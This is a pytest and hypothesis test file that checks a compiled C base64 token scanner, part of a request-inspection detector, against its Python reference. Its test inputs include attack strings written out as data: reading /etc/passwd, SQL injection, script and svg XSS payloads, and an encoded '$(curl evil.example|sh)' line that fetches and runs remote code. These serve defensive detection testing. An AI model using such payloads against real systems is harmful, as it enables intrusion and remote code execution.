"""_b64scan.c, the C pass of readings.py's base64 token search, against its Python reference
(readings._b64_candidates_py): the same tokens in the same order, less only tokens whose
decoding is not text (decode.b64_token is None), so the readings a request gets are the same."""

from __future__ import annotations

import base64

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from node.detect import decode, readings

_b64scan = pytest.importorskip("node.detect._b64scan", reason="node/detect is not compiled in this tree (make native)")


def _decoded(tokens: list[str]) -> list[str]:
    """What readings._tokens_decoded makes of the candidates, with nothing tried before."""
    tried: set[str] = set()
    out = []
    for tok in tokens:
        if tok not in tried:
            tried.add(tok)
            d = decode.b64_token(tok)
            if d and not d.isalnum():
                out.append(d)
    return out


def _check(text: str) -> None:
    native = _b64scan.text_tokens(text)
    reference = readings._b64_candidates_py(text)
    kept = set(native)
    assert kept <= set(reference)
    # the reference's tokens in its order, those the C pass left out being never text
    assert [t for t in reference if t in kept] == list(dict.fromkeys(native))
    assert all(decode.b64_token(t) is None for t in reference if t not in kept)
    assert _decoded(native) == _decoded(reference)


# bytes that UTF-8 decoders tell apart: well-formed sequences of each length, and the
# ill-formed ones Python's decoder refuses (overlong, surrogate, past U+10FFFF, cut short,
# stray continuation), and U+FFFD itself (EF BF BD: a decoding that holds it is still text)
UTF8_PIECES = [
    b"cat /etc/passwd", b"<script>", b"' or 1=1--", b"\xc3\xa9", b"\xe4\xb8\xad", b"\xf0\x9f\x98\x80",
    b"\xef\xbf\xbd", b"\xc0\xaf", b"\xc1\xbf", b"\xe0\x80\xaf", b"\xe0\x9f\xbf", b"\xed\xa0\x80", b"\xed\x9f\xbf",
    b"\xf0\x80\x80\xaf", b"\xf0\x8f\xbf\xbf", b"\xf4\x8f\xbf\xbf", b"\xf4\x90\x80\x80", b"\xf5\x80\x80\x80",
    b"\xff", b"\x80", b"\xbf", b"\xe4\xb8", b"\xf0\x9f\x98", b"\xc3", b"\x00", b"\x1b[0m", b"\x7f",
    # the first and last code point of each lead byte's range
    *(chr(c).encode("utf-8", "surrogatepass") for c in (
        0x80, 0xBF, 0xC0, 0x7FF, 0x800, 0xFFF, 0x1000, 0xCFFF, 0xD000, 0xD7FF, 0xD800, 0xDFFF, 0xE000,
        0xFFFF, 0x10000, 0x3FFFF, 0x40000, 0xFFFFF, 0x100000, 0x10FFFF)),
]
_bytes = st.lists(st.one_of(st.sampled_from(UTF8_PIECES), st.binary(max_size=24)), max_size=8).map(b"".join)


@st.composite
def _encoded(draw: st.DrawFn) -> str:
    raw = draw(_bytes)
    urlsafe = draw(st.booleans())
    text = (base64.urlsafe_b64encode(raw) if urlsafe else base64.b64encode(raw)).decode()
    strip = draw(st.integers(0, 3))
    return text.rstrip("=") + "=" * max(0, text.count("=") - strip) if strip else text


_token_chars = st.sampled_from("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/_-=")
_run = st.text(_token_chars, min_size=10, max_size=40)
_separators = st.sampled_from([" ", "@", '"', ":", ".", "\x1f", "\n", "é", "中", "\U0001f600", "==", "===", "&q="])
_texts = st.lists(st.one_of(_encoded(), _run, _separators, st.text(max_size=12)), max_size=12).map("".join)


@settings(max_examples=3000, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_texts)
def test_the_c_pass_keeps_every_token_the_python_search_decodes(text: str) -> None:
    _check(text)


@pytest.mark.parametrize("text", [
    "",
    "L2V0Yy9wYXNzd2Q=",  # /etc/passwd: 16 characters with its padding
    "L2V0Yy9wYXNzd2Q",  # 15: too short
    "x=L2V0Yy9wYXNzd2Q=&y=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",  # a token right after '=='
    "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg===PHN",  # a third '=' is not the token's
    "@4u/1m/I//50/4e/3k/g/5/MT/-1+@4u/1n/I//9o/4e/1i/g/7/MT/-1+",  # beacon layout codes: not text
    "ClientInstRequest 2961C4021E2D438E97E4B7E764577A45 deadbeef-dead-beef-dead-beefdeadbeef",
    "中L2V0Yy9wYXNzd2Q=中",
    "fF03aG0gaCE746Cg",  # hex digits and g/G only: not a hex id, and text once decoded
    "\U0001f600" + base64.b64encode("中文 '; DROP TABLE users--".encode()).decode(),
    base64.b64encode(b"\xef\xbf\xbd<svg onload=alert(1)>").decode(),  # U+FFFD in the bytes
    base64.b64encode(b"\xed\xa0\x80<svg onload=alert(1)>").decode(),  # a surrogate: not text
    base64.urlsafe_b64encode(b"\xfb\xff\xbf<svg/onload=alert(1)>").decode(),
])
def test_known_shapes(text: str) -> None:
    _check(text)


# sequences at the edges of UTF-8's ranges: each lead byte's first and last, and those before
# and after them (C1, F5), with second bytes at the edges of the ranges E0, ED, F0 and F4
# narrow, whole or cut short; with ASCII, stray continuation bytes and U+FFFD (EF BF BD)
_EDGE_SEQUENCES = [
    bytes([lead, second]) + b"\x80" * (length - 2 - cut)
    for lead, length in ((0xC1, 2), (0xC2, 2), (0xDF, 2), (0xE0, 3), (0xE1, 3), (0xEC, 3), (0xED, 3), (0xEE, 3),
                         (0xEF, 3), (0xF0, 4), (0xF1, 4), (0xF3, 4), (0xF4, 4), (0xF5, 4))
    for second in (0x7F, 0x80, 0x8F, 0x90, 0x9F, 0xA0, 0xBF, 0xC0)
    for cut in range(length - 1)
] + [b"A", b"\x7f", b"\x80", b"\xbf", b"\xef\xbf\xbd", b"\xff"]


@settings(max_examples=5000, deadline=None)
@given(st.lists(st.sampled_from(_EDGE_SEQUENCES), min_size=1, max_size=4).map(b"".join), st.booleans())
def test_may_be_text_is_utf8_or_holds_u_fffd(raw: bytes, urlsafe: bool) -> None:
    """Exactly: the bytes decode as UTF-8 (Python's decoder), or they hold EF BF BD."""
    try:
        raw.decode("utf-8")
        text = True
    except UnicodeDecodeError:
        text = b"\xef\xbf\xbd" in raw
    token = (base64.urlsafe_b64encode(raw) if urlsafe else base64.b64encode(raw)).decode()
    assert _b64scan.may_be_text(token) is text
    assert _b64scan.may_be_text(token.rstrip("=")) is text


@settings(max_examples=5000, deadline=None)
@given(st.text(st.sampled_from("AFGZafgz09-+/_"), min_size=1, max_size=20), st.integers(0, 2))
def test_worth_is_the_python_search_s_test(run: str, padding: int) -> None:
    token = run + "=" * padding
    assert _b64scan.worth(token) is readings._worth_trying(token)


def test_the_token_tests_take_tokens_only() -> None:
    for not_a_token in ("ab=cd", "=abcd", "ab cd", "abcé"):
        with pytest.raises(ValueError):
            _b64scan.worth(not_a_token)


def test_the_c_pass_is_linear_and_finds_the_token_at_the_end() -> None:
    token = base64.b64encode(b"$(curl evil.example|sh)").decode()
    text = "@4u/1m/I//50/4e/3k/g/5/MT/-1+" * 40_000 + " " + token
    assert _b64scan.text_tokens(text)[-1] == token
    _check(text[-5000:])


def test_it_takes_only_text() -> None:
    with pytest.raises(TypeError):
        _b64scan.text_tokens(b"L2V0Yy9wYXNzd2Q=")  # type: ignore[arg-type]
